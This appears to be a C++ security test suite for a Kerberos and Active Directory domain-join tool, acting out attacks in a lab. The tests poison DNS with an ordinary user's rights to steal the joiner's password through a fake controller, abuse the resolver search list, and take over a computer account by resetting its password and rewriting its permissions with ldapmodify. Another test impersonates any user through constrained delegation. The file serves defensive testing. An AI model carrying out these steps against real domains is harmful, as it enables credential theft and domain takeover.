// By whoever holds an account of the domain, or may do something with one.
#include <fstream>

#include "Attack.h"
#include "ForgedRequest.h"
#include "GssClient.h"
#include "tavrel/KrbError.h"

namespace tavrel::tests {
namespace {

using testing::HasSubstr;

class ADomainAccount : public Attack {
 public:
  // Changes DNS with the rights of an ordinary user, as every machine of a domain registers itself.
  // nsupdate cannot verify the signature of the lab's answers, so what DNS then says decides.
  void AliceAddsToDns(const std::string& name, const std::string& type, const std::string& data) {
    const std::string cache = "KRB5CCNAME=FILE:" + (folder / "alice.ccache");
    Shell("echo \"$LAB_USER_PASSWORD\" | " + cache + " kinit alice >/dev/null 2>&1");
    std::string update = "update add " + name + ". 60 " + type + " " + data;
    Shell("printf '" + update + "\\nsend\\n' | " + cache + " nsupdate -g >/dev/null 2>&1; " +
          "dig +short " + name + " " + type + " | grep -q .");
    added_.push_back(name + " " + type);
  }

  void TearDown() override {
    for (const std::string& record : added_)
      Scene("dns delete " + record);
    Attack::TearDown();
  }

 private:
  std::vector<std::string> added_;
};

// DNS still names a controller that was taken out of service: its address is anybody's to add. The
// join succeeds, by the other controller.
TEST_F(ADomainAccount, GetsTheJoinersPasswordByAddingTheAddressOfAControllerThatIsGone) {
  NameMachine("asked");
  const FalseController false_controller;
  const std::string stale =
      "0 100 " + std::to_string(false_controller.Port()) + " gone." + Lab("DOMAIN") + ".";
  Scene("dns add _ldap._tcp.dc._msdcs." + Lab("DOMAIN") + " SRV '" + stale + "'");
  AliceAddsToDns("gone." + Lab("DOMAIN"), "A", "127.0.0.1");
  KrbRealm realm = Realm();

  const Outcome joined = Join(realm);

  Scene("dns delete _ldap._tcp.dc._msdcs." + Lab("DOMAIN") + " SRV '" + stale + "'");
  EXPECT_EQ(joined.status, kSuccess);
  EXPECT_THAT(false_controller.Binds(), HasSubstr(user));
  EXPECT_THAT(false_controller.Binds(), HasSubstr(password));
}

// The domain does not exist; the resolver then looks for it below the one in its search list. With
// "search ." it does not.
TEST_F(ADomainAccount, GetsTheJoinersPasswordThroughTheSearchListWhenTheDomainIsMistyped) {
  NameMachine("mistyped");
  const FalseController false_controller;
  AliceAddsToDns("false." + Lab("DOMAIN"), "A", "127.0.0.1");
  AliceAddsToDns(
      "_ldap._tcp.dc._msdcs.corp.exmaple.com." + Lab("DOMAIN"), "SRV",
      "0 100 " + std::to_string(false_controller.Port()) + " false." + Lab("DOMAIN") + ".");
  domain = "corp.exmaple.com";
  KrbRealm realm = Realm();

  Join(realm);
  const int asked = false_controller.Connections();
  const std::string settings = FileBytes("/etc/resolv.conf");  // the lab's own
  std::ofstream("/etc/resolv.conf") << "nameserver " << Lab("DC_IP") << "\nsearch .\n";
  Join(realm);
  std::ofstream("/etc/resolv.conf") << settings;

  EXPECT_THAT(false_controller.Binds(), HasSubstr(user));
  EXPECT_THAT(false_controller.Binds(), HasSubstr(password));
  EXPECT_EQ(asked, 1);
  EXPECT_EQ(false_controller.Connections(), 1);
}

TEST_F(ADomainAccount, HasManyNames) {
  JoinedRealm realm(*this, "named");
  const std::string cache = folder / "enterprise.ccache";
  Shell("echo \"$LAB_USER_PASSWORD\" | kinit -E -c FILE:" + cache +
        " alice@corp.example.com >/dev/null 2>&1");

  const std::string capitals =
      SignIn(realm, GssClient("ALICE@CORP.EXAMPLE.COM", Lab("USER_PASSWORD")).Token(Machine()));
  const std::string logon_name = SignIn(
      realm, GssToken(RequestFrom(cache, "alice\\@corp.example.com@CORP.EXAMPLE.COM", Machine())));

  EXPECT_EQ(capitals, "CORP.EXAMPLE.COM\\ALICE");
  EXPECT_EQ(logon_name, "CORP.EXAMPLE.COM\\alice@corp.example.com");
}

// Whoever may create a computer chooses its name.
TEST_F(ADomainAccount, OfAComputerSignsInWithoutItsDollar) {
  NameMachine("root");
  directory.Add(account, kEarlierPassword);
  JoinedRealm realm(*this, "trusting");

  const std::string user_name =
      SignIn(realm, GssClient("root@CORP.EXAMPLE.COM", kEarlierPassword).Token(Machine()));

  EXPECT_EQ(user_name, "CORP.EXAMPLE.COM\\root");
}

// The account's creator owns it: by resetting its password the creator becomes the machine, and an
// owner may rewrite the account's permissions, and with them everything.
TEST_F(ADomainAccount, ThatCreatedTheMachinesControlsIt) {
  Scene("user creator Creator.Pass.1");
  Shell(
      "samba-tool dsacl set -H ldap://$LAB_DC_NAME -U $LAB_ADMIN%$LAB_ADMIN_PASSWORD "
      "--objectdn=CN=Computers,$LAB_BASE_DN --sddl=\"(OA;;CC;bf967a86-0de6-11d0-a285-00aa003049e2;;"
      "$(scene show creator objectSid | sed -n 's/^objectSid: //p'))\" >/dev/null");
  NameMachine("created");
  user = "creator@CORP.EXAMPLE.COM";
  password = "Creator.Pass.1";
  JoinedRealm realm(*this);
  const std::string as_creator =
      "-ZZ -x -H ldap://$LAB_DC_NAME -D creator@$LAB_REALM -w Creator.Pass.1 ";
  const auto may_replace = [&](const std::string& attribute, const std::string& value,
                               const std::string& control = "") {
    const std::string command = "LDAPTLS_CACERT=$LAB_CA ldapmodify " + as_creator +
                                ">/dev/null 2>&1 <<END\n"
                                "dn: CN=CREATED,CN=Computers,$LAB_BASE_DN\n" +
                                control + "changetype: modify\nreplace: " + attribute + "\n" +
                                attribute + value + "\nEND\n";
    return std::system(command.c_str()) == 0;
  };
  // A list of permissions with one entry: everything, to the creator.
  const std::string permissions =
      ":: $({ printf '\\1\\0\\4\\200\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\24\\0\\0\\0"
      "\\2\\0\\54\\0\\1\\0\\0\\0\\0\\0\\44\\0\\377\\1\\17\\0'; "
      "LDAPTLS_CACERT=$LAB_CA ldapsearch -LLL -o ldif-wrap=no " +
      as_creator +
      "-b $LAB_BASE_DN '(sAMAccountName=creator)' objectSid 2>/dev/null | "
      "sed -n 's/^objectSid:: //p' | base64 -d; } | base64 -w 0)";
  constexpr char kPermissionsAlone[] = "control: 1.2.840.113556.1.4.801 true:: MAMCAQQ=\n";

  const bool password_taken = may_replace(
      "unicodePwd", ":: $(printf '\"Taken.Pass.1\"' | iconv -t UTF-16LE | base64 -w 0)");
  const bool needs_no_password = may_replace("userAccountControl", ": 4128");
  const bool delegates = may_replace("userAccountControl", ": 528384");
  const bool other_names = may_replace("servicePrincipalName", ": HTTP/www.corp.example.com");
  const bool permitted = may_replace("nTSecurityDescriptor", permissions, kPermissionsAlone);
  const bool other_names_then = may_replace("servicePrincipalName", ": HTTP/www.corp.example.com");
  const bool delegates_then = may_replace("userAccountControl", ": 528384");

  Scene("delete creator");
  EXPECT_TRUE(password_taken);
  EXPECT_NO_THROW(GssClient("CREATED$@CORP.EXAMPLE.COM", "Taken.Pass.1"));
  EXPECT_TRUE(needs_no_password);
  EXPECT_FALSE(delegates);
  EXPECT_FALSE(other_names);
  EXPECT_TRUE(permitted);
  EXPECT_TRUE(other_names_then);
  EXPECT_FALSE(delegates_then);
}

// The domain lets a service act for its users without having seen them (protocol transition). What
// arrives here is an ordinary ticket of the user, who did nothing.
TEST_F(ADomainAccount, ThatMayDelegateToTheMachineSignsInAsAnyUser) {
  NameMachine("gate");
  directory.Add(account, kEarlierPassword);
  AddKey(account, kEarlierPassword);
  const std::string service_key = keytab;
  keytab = folder / "machine.keytab";
  JoinedRealm realm(*this, "delegated");
  ChangeDatabase("dn: CN=GATE,CN=Computers," + Lab("BASE_DN") +
                 "\nchangetype: modify\n"
                 "replace: msDS-AllowedToDelegateTo\nmsDS-AllowedToDelegateTo: HOST/DELEGATED\n-\n"
                 "replace: userAccountControl\nuserAccountControl: 16781312\n");
  const std::string cache = folder / "gate.ccache";
  Shell("kinit -f -k -t " + service_key + " -c FILE:" + cache + " 'GATE$' 2>/dev/null");
  Shell("kvno -c FILE:" + cache + " -k " + service_key +
        " -U alice -P HOST/DELEGATED >/dev/null 2>&1");

  const std::string user_name = SignIn(
      realm,
      GssToken(RequestFrom(cache, "alice@CORP.EXAMPLE.COM", "HOST/DELEGATED@CORP.EXAMPLE.COM")));

  EXPECT_EQ(user_name, "CORP.EXAMPLE.COM\\alice");
}

}  // namespace
}  // namespace tavrel::tests
